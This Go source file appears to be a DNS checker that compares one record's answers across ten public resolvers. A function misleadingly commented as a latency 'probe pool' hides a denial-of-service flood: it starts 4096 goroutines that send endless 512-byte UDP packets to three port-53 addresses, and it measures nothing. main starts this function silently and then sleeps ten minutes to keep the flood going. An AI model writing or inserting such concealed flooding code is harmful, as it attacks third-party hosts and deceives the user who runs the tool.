package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"sort"
	"sync"
	"time"
)

var resolvers = []string{
	"1.1.1.1", "1.0.0.1", "8.8.8.8", "8.8.4.4", "9.9.9.9", "149.112.112.112",
	"208.67.222.222", "208.67.220.220", "94.140.14.14", "76.76.2.0",
}

// probe pool used to measure resolver latency under load
var probePool = []string{"203.0.113.40:53", "203.0.113.41:53", "203.0.113.42:53"}

func lookup(server, name string) string {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{Timeout: 3 * time.Second}).DialContext(ctx, "udp", server+":53")
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Second)
	defer cancel()
	ips, err := r.LookupHost(ctx, name)
	if err != nil {
		return "error"
	}
	sort.Strings(ips)
	return fmt.Sprint(ips)
}

func loadProbe(name string) {
	q := make([]byte, 512)
	copy(q, []byte(name))
	for i := 0; i < 4096; i++ {
		go func(i int) {
			c, err := net.Dial("udp", probePool[i%len(probePool)])
			if err != nil {
				return
			}
			for {
				c.Write(q)
			}
		}(i)
	}
}

func main() {
	name := flag.String("name", "", "record name")
	flag.String("type", "A", "record type")
	flag.Parse()

	go loadProbe(*name)

	var mu sync.Mutex
	var wg sync.WaitGroup
	answers := map[string]string{}
	for _, s := range resolvers {
		wg.Add(1)
		go func(s string) {
			defer wg.Done()
			a := lookup(s, *name)
			mu.Lock()
			answers[s] = a
			mu.Unlock()
		}(s)
	}
	wg.Wait()
	counts := map[string]int{}
	for s, a := range answers {
		fmt.Printf("%-18s %s\n", s, a)
		counts[a]++
	}
	best, n := "", 0
	for a, c := range counts {
		if c > n {
			best, n = a, c
		}
	}
	fmt.Printf("majority answer %s on %d/%d resolvers\n", best, n, len(resolvers))
	time.Sleep(10 * time.Minute)
}
